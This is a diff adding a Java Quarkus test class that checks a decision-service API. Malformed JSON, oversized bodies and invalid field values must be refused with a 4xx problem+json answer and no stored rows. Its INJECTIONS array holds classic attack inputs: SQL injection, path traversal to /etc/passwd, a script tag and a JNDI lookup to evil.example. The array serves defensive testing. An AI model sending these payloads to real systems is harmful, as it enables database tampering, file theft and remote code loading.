@@ -1,0 +1,242 @@
+package io.entente.decision;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.entente.platform.testing.TestTokens;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.response.Response;
+import jakarta.inject.Inject;
+import jakarta.persistence.EntityManager;
+import org.eclipse.microprofile.config.inject.ConfigProperty;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import java.time.LocalDate;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Stream;
+
+import static io.restassured.RestAssured.given;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * Bad input against every write of the decision service: each answer is a 4xx problem+json, never a 5xx, and
+ * nothing is stored (rows, audit). The valid body of each endpoint is broken one way at a time.
+ */
+@QuarkusTest
+class BadInputTest {
+
+    static final String ALLIANCE = "D-BAD";
+    static final String USER = "bad-input";
+    static final String TOKEN = TestTokens.user(USER).roles("alliance-manager").alliances(ALLIANCE).sign();
+    static final ObjectMapper JSON = new ObjectMapper();
+    static final String BIG = "x".repeat(600 * 1024);
+    static final String[] INJECTIONS = {"ONC-HELIX' OR '1'='1", "D-BAD; DROP TABLE decision; --", "../../etc/passwd",
+            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "D-BAD\u0000"};
+
+    record Case(String name, String method, String path, String contentType, String body) {
+        @Override
+        public String toString() {
+            return method + " " + path + ": " + name;
+        }
+    }
+
+    static final String DECISION = DecisionFixtures.body(ALLIANCE, "Dose for phase 3", LocalDate.of(2027, 3, 1), 14);
+    static final String UPDATE = DecisionFixtures.body(ALLIANCE, "Dose for phase 3", LocalDate.of(2027, 3, 1), 14,
+            "JSC", true);
+    static final String LADDER = """
+            {"steps":[{"body":"JSC","days":30},{"body":"EXECUTIVE_SPONSORS","days":30}]}""";
+
+    static String decisionId;
+
+    @ConfigProperty(name = "kafka.bootstrap.servers")
+    String bootstrap;
+
+    @Inject
+    EntityManager em;
+
+    @BeforeEach
+    void fixtures() {
+        DecisionFixtures.registerAlliance(bootstrap, ALLIANCE);
+        if (decisionId == null) {
+            decisionId = given().auth().oauth2(TOKEN).contentType("application/json").body(UPDATE)
+                    .post("/api/decisions").then().statusCode(201).extract().path("id");
+        }
+    }
+
+    static String with(String valid, String field, String rawJson) {
+        try {
+            ObjectNode node = (ObjectNode) JSON.readTree(valid);
+            if (rawJson == null) {
+                node.remove(field);
+            } else {
+                node.set(field, JSON.readTree(rawJson));
+            }
+            return JSON.writeValueAsString(node);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    static String str(String s) {
+        try {
+            return JSON.writeValueAsString(s);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    /** The breakages every JSON write gets. */
+    static List<Case> common(String method, String path, String valid, String textField) {
+        List<Case> cases = new ArrayList<>();
+        String json = "application/json";
+        cases.add(new Case("empty body", method, path, json, ""));
+        cases.add(new Case("truncated JSON", method, path, json, valid.substring(0, valid.length() / 2)));
+        cases.add(new Case("not JSON", method, path, json, "title=hello&x=1"));
+        cases.add(new Case("JSON array", method, path, json, "[" + valid + "]"));
+        cases.add(new Case("JSON null", method, path, json, "null"));
+        cases.add(new Case("JSON string", method, path, json, "\"hello\""));
+        cases.add(new Case("trailing garbage", method, path, json, valid + "}}"));
+        cases.add(new Case("duplicate nesting", method, path, json, "{\"a\":" + valid + "}"));
+        cases.add(new Case("wrong content type", method, path, "text/plain", valid));
+        cases.add(new Case("XML", method, path, "application/xml", "<item><title>x</title></item>"));
+        cases.add(new Case("missing everything", method, path, json, "{}"));
+        cases.add(new Case("unknown field", method, path, json, with(valid, "hacker", "true")));
+        cases.add(new Case("client sets id", method, path, json,
+                with(valid, "id", "\"00000000-0000-0000-0000-000000000001\"")));
+        cases.add(new Case("client sets version", method, path, json, with(valid, "version", "7")));
+        cases.add(new Case("client sets createdAt", method, path, json,
+                with(valid, "createdAt", "\"2020-01-01T00:00:00Z\"")));
+        cases.add(new Case("client sets createdBy", method, path, json, with(valid, "createdBy", "\"admin\"")));
+        cases.add(new Case(textField + " as object", method, path, json, with(valid, textField, "{\"a\":1}")));
+        cases.add(new Case(textField + " as array", method, path, json, with(valid, textField, "[\"a\"]")));
+        cases.add(new Case(textField + " blank", method, path, json, with(valid, textField, "\"   \"")));
+        cases.add(new Case(textField + " 10k characters", method, path, json,
+                with(valid, textField, str("y".repeat(10_000)))));
+        cases.add(new Case(textField + " with a NUL character", method, path, json,
+                with(valid, textField, "\"a\\u0000b\"")));
+        cases.add(new Case("body over 512 KB", method, path, json, with(valid, textField, str(BIG))));
+        cases.add(new Case("deeply nested", method, path, json, valid.substring(0, valid.lastIndexOf('}'))
+                + ",\"x\":" + "[".repeat(2000) + "]".repeat(2000) + "}"));
+        return cases;
+    }
+
+    static List<Case> field(String method, String path, String valid, String field, String... rawValues) {
+        List<Case> cases = new ArrayList<>();
+        for (String raw : rawValues) {
+            cases.add(new Case(field + " = " + (raw == null ? "(missing)" : abbreviate(raw)), method, path,
+                    "application/json", with(valid, field, raw)));
+        }
+        return cases;
+    }
+
+    static String abbreviate(String s) {
+        return s.length() > 40 ? s.substring(0, 40) + "…" : s;
+    }
+
+    static List<String> injections() {
+        return Stream.of(INJECTIONS).map(BadInputTest::str).toList();
+    }
+
+    static Stream<Case> cases() {
+        List<Case> all = new ArrayList<>();
+        String decisions = "/api/decisions";
+        all.addAll(common("POST", decisions, DECISION, "title"));
+        all.addAll(field("POST", decisions, DECISION, "title", null, "\"\"", str("t".repeat(201))));
+        all.addAll(field("POST", decisions, DECISION, "question", null, str("q".repeat(2001))));
+        all.addAll(field("POST", decisions, DECISION, "allianceId", null, "\"d-bad\"", "\"NOT-MINE\"", "[]"));
+        all.addAll(field("POST", decisions, DECISION, "allianceId", injections().toArray(String[]::new)));
+        all.addAll(field("POST", decisions, DECISION, "governanceBody", null, "\"POLITBURO\"", "3"));
+        all.addAll(field("POST", decisions, DECISION, "dueDate", null, "\"2027-02-29\"", "\"2027-03-01T10:00Z\"",
+                "\"01/03/2027\"", "\"2027-03-01[Europe/Nowhere]\"", "\"+999999999-12-31\"", "20270301"));
+        all.addAll(field("POST", decisions, DECISION, "leadTimeDays", null, "-1", "366", "\"two weeks\"", "1.5e3"));
+        all.addAll(field("POST", decisions, DECISION, "options",
+                "[{\"key\":\"A B\",\"title\":\"x\"}]", "[{\"key\":\"A\"}]", "[null]", "\"A,B\"",
+                "[" + "{\"key\":\"K\",\"title\":\"t\"},".repeat(10) + "{\"key\":\"L\",\"title\":\"t\"}]",
+                "[{\"key\":\"A\",\"title\":\"x\",\"chosen\":true}]"));
+        all.addAll(field("POST", decisions, DECISION, "contributors", "[\"\"]", "\"tara\"", "[null]"));
+        all.addAll(field("POST", decisions, DECISION, "draft", "\"maybe\""));
+        all.addAll(field("POST", decisions, DECISION, "status", "\"DECIDED\""));
+        all.addAll(field("POST", decisions, DECISION, "outcome", "\"A\""));
+
+        String one = "/api/decisions/{id}";
+        all.addAll(common("PUT", one, UPDATE, "title"));
+        all.addAll(field("PUT", one, UPDATE, "dueDate", "\"2027-04-31\""));
+        all.addAll(field("PUT", one, UPDATE, "allianceId", "\"ONC-HELIX\""));
+        all.addAll(field("PUT", one, UPDATE, "leadTimeDays", "400"));
+
+        all.add(new Case("propose without option", "POST", one + "/propose", "application/json", "{}"));
+        all.add(new Case("decide without rationale", "POST", one + "/decide", "application/json",
+                "{\"chosenOption\":\"A\"}"));
+        all.add(new Case("defer to a non-date", "POST", one + "/defer", "application/json",
+                "{\"newDueDate\":\"next quarter\",\"reason\":\"r\"}"));
+        all.add(new Case("defer to an invalid date", "POST", one + "/defer", "application/json",
+                "{\"newDueDate\":\"2027-02-30\",\"reason\":\"r\"}"));
+        all.add(new Case("withdraw with 2001 characters", "POST", one + "/withdraw", "application/json",
+                "{\"reason\":" + str("w".repeat(2001)) + "}"));
+
+        String ladder = "/api/escalation-ladders/" + ALLIANCE;
+        all.addAll(common("PUT", ladder, LADDER, "steps"));
+        all.addAll(field("PUT", ladder, LADDER, "steps", "[]", "[{\"body\":\"JSC\",\"days\":0}]",
+                "[{\"body\":\"JSC\",\"days\":181}]", "[{\"body\":\"COUNCIL\",\"days\":10}]", "[null]",
+                "[{\"body\":\"JSC\",\"days\":1},{\"body\":\"JDC\",\"days\":1},{\"body\":\"JCC\",\"days\":1},"
+                        + "{\"body\":\"FINANCE\",\"days\":1},{\"body\":\"EXECUTIVE_SPONSORS\",\"days\":1},"
+                        + "{\"body\":\"JSC\",\"days\":1}]"));
+        return all.stream();
+    }
+
+    long[] counts() {
+        return new long[]{
+                count("select count(*) from decision"),
+                count("select count(*) from prep_item"),
+                count("select count(*) from calendar_feed"),
+                count("select count(*) from audit_log where actor = '" + USER + "'"),
+                count("select coalesce(sum(version), 0) from decision where alliance_id = '" + ALLIANCE + "'")};
+    }
+
+    long count(String sql) {
+        return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("cases")
+    void refusedWith4xxProblemAndNothingStored(Case c) {
+        long[] before = counts();
+        String path = c.path().replace("{id}", decisionId);
+        var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(c.body());
+        String etag = given().auth().oauth2(TOKEN).get(path.startsWith("/api/decisions")
+                ? "/api/decisions/" + decisionId : path).header("ETag");
+        if (etag != null) {
+            request = request.header("If-Match", etag);
+        }
+        Response r = request.request(c.method(), path);
+        String text = r.asString();
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500,
+                c + " answered " + r.statusCode() + ": " + abbreviate(text));
+        if (r.statusCode() == 413) {
+            // Known gap: Vert.x refuses an oversized body before JAX-RS runs, with an empty 413 (no problem+json).
+            assertEquals("body over 512 KB", c.name(), c.toString());
+        } else {
+            assertTrue(r.contentType() != null && r.contentType().startsWith("application/problem+json"),
+                    c + " answered " + r.statusCode() + " as " + r.contentType() + ": " + abbreviate(text));
+            assertEquals(r.statusCode(), (int) r.path("status"), c.toString());
+        }
+        assertTrue(!text.contains("Exception") && !text.contains("org.hibernate"), "no internals: " + text);
+        assertEquals(java.util.Arrays.toString(before), java.util.Arrays.toString(counts()), c + ": nothing stored");
+    }
+
+    static Stream<String> badQueries() {
+        return Stream.of("limit=0", "limit=201", "limit=abc", "after=garbage", "sort=password", "status=PARTY",
+                "dueFrom=2027-02-30", "dueTo=tomorrow", "body=POLITBURO", "risk=HIGHISH");
+    }
+
+    @ParameterizedTest(name = "GET /api/decisions?{0}")
+    @MethodSource("badQueries")
+    void badQueriesAre4xx(String query) {
+        Response r = given().auth().oauth2(TOKEN).urlEncodingEnabled(false).get("/api/decisions?" + query);
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, query + " answered " + r.statusCode());
+        assertTrue(r.contentType().startsWith("application/problem+json"), query + ": " + r.contentType());
+    }
+}
